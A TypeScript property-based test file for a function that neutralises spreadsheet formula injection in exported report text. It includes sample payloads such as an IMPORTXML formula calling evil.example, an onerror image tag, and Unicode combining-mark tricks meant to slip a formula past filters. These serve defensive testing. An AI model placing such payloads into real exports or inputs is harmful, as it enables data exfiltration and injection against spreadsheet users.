import fc from 'fast-check';
import { displayText, neutralizeText } from '../../../src/core/report/neutralizeText';

const TRIGGERS = ['=', '+', '-', '@', "'", '\t', '\r', '\n', '\u0000', '\u2212'];

/** First characters a spreadsheet reads as the start of a formula, as written (half- and full-width) or as a control character. */
const RAW_TRIGGERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\u2212', '\t', '\r', '\n'];

/**
 * Code points that change under NFKC or compose with what precedes them: combining marks (U+0338
 * turns "=" into "≠"), variation selectors, joiners, compatibility characters (ligatures, circled
 * and full-width forms), Hangul jamo that compose into syllables, and the BOM.
 */
const NORMALISATION_CHANGERS = fc.oneof(
  fc.integer({ min: 0x0300, max: 0x036f }),
  fc.constantFrom(0x0338, 0x20d2, 0x20e5, 0x20e6, 0x20d3, 0x0334, 0x0335, 0x0336, 0x0337),
  fc.integer({ min: 0xfe00, max: 0xfe0f }),
  fc.integer({ min: 0xe0100, max: 0xe01ef }),
  fc.constantFrom(0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x034f),
  fc.constantFrom(0xfb01, 0x2126, 0x212b, 0x2460, 0x3251, 0x33a1, 0x1d400, 0xff10, 0xff21, 0xff5e, 0x00a0, 0x3000),
  fc.integer({ min: 0x1160, max: 0x11ff }),
  fc.integer({ min: 0x3099, max: 0x309a }),
).map((code) => String.fromCodePoint(code));

describe('neutralizeText', () => {
  it.each(TRIGGERS)('prefixes an apostrophe to text starting with %j', (trigger) => {
    expect(neutralizeText(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
  });

  it('prefixes formulas that reach out to the network', () => {
    expect(neutralizeText('=IMPORTXML("http://evil.example","//a")')).toBe(`'=IMPORTXML("http://evil.example","//a")`);
    expect(neutralizeText('=HYPERLINK("http://x","y")')).toBe(`'=HYPERLINK("http://x","y")`);
  });

  it('checks the NFKC form, so full-width ＝, ＋, －, ＠ count as triggers', () => {
    expect(neutralizeText('＝1+1')).toBe("'＝1+1");
    expect(neutralizeText('＋81')).toBe("'＋81");
    expect(neutralizeText('－5')).toBe("'－5");
    expect(neutralizeText('＠SUM(A1)')).toBe("'＠SUM(A1)");
  });

  it('keeps the original spelling after the apostrophe', () => {
    expect(displayText(neutralizeText('＝ＳＵＭ(A1)'))).toBe('＝ＳＵＭ(A1)');
  });

  it('prefixes text a spreadsheet would read as a number, date or boolean', () => {
    expect(neutralizeText('2025-04')).toBe("'2025-04");
    expect(neutralizeText('1,200')).toBe("'1,200");
    expect(neutralizeText('(未設定)')).toBe("'(未設定)");
    expect(neutralizeText('¥1,200')).toBe("'¥1,200");
    expect(neutralizeText('#N/A')).toBe("'#N/A");
    expect(neutralizeText('TRUE')).toBe("'TRUE");
    expect(neutralizeText('false')).toBe("'false");
    expect(neutralizeText('Apr 2025')).toBe("'Apr 2025");
  });

  it('leaves ordinary labels unchanged', () => {
    expect(neutralizeText('Google広告')).toBe('Google広告');
    expect(neutralizeText('展示会')).toBe('展示会');
    expect(neutralizeText('Webinar')).toBe('Webinar');
    expect(neutralizeText('*')).toBe('*');
    expect(neutralizeText('>0')).toBe('>0');
    expect(neutralizeText('<img src=x onerror=alert(1)>')).toBe('<img src=x onerror=alert(1)>');
  });

  it('keeps every string recoverable: the display text is the input', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => displayText(neutralizeText(text)) === text));
  });

  it('never returns text whose first visible character would start a formula, unless it is the marker', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const written = neutralizeText(text);
        if (written.startsWith("'")) return true;
        const visible = written.normalize('NFKC').replace(/^\s+/, '');
        return !/^[=+\-@'\u2212]/.test(visible) && (written === '' || written.normalize('NFKC').charCodeAt(0) >= 0x20);
      }),
    );
  });

  describe('Unicode composition after a trigger', () => {
    it('prefixes "=" followed by a combining long solidus, although NFKC composes the pair into "≠"', () => {
      expect('=\u0338'.normalize('NFKC')).toBe('\u2260');
      expect(neutralizeText('=\u0338IMPORTXML("http://x","//a")')).toBe(`'=\u0338IMPORTXML("http://x","//a")`);
      expect(neutralizeText('\uFF1D\u0338SUM(A1)')).toBe("'\uFF1D\u0338SUM(A1)");
    });

    it('decides on the raw text and on its NFKC form, whatever follows the trigger', () => {
      fc.assert(
        fc.property(fc.constantFrom(...RAW_TRIGGERS), fc.array(NORMALISATION_CHANGERS, { minLength: 1, maxLength: 4 }), fc.string({ unit: 'binary', maxLength: 12 }), (trigger, marks, tail) => {
          const text = trigger + marks.join('') + tail;
          return neutralizeText(text) === `'${text}`;
        }),
        { numRuns: 2000 },
      );
    });
  });

  describe('edge cases', () => {
    it('returns the empty string unchanged', () => {
      expect(neutralizeText('')).toBe('');
    });

    it('prefixes a formula behind leading spaces, including the full-width space', () => {
      expect(neutralizeText('  =1+1')).toBe("'  =1+1");
      expect(neutralizeText('\u3000=1+1')).toBe("'\u3000=1+1");
    });

    it('leaves the em dash used for null values unchanged', () => {
      expect(neutralizeText('—')).toBe('—');
    });

    it('adds a second apostrophe to text that already starts with one, so the first stays visible', () => {
      expect(neutralizeText("'90s")).toBe("''90s");
    });
  });
});

describe('displayText', () => {
  it('drops one leading literal-text apostrophe', () => {
    expect(displayText("'=1+1")).toBe('=1+1');
  });

  it('returns text without a marker unchanged', () => {
    expect(displayText('リード')).toBe('リード');
  });

  describe('edge cases', () => {
    it('drops only the first of two apostrophes', () => {
      expect(displayText("''90s")).toBe("'90s");
    });

    it('returns the empty string unchanged', () => {
      expect(displayText('')).toBe('');
    });
  });
});
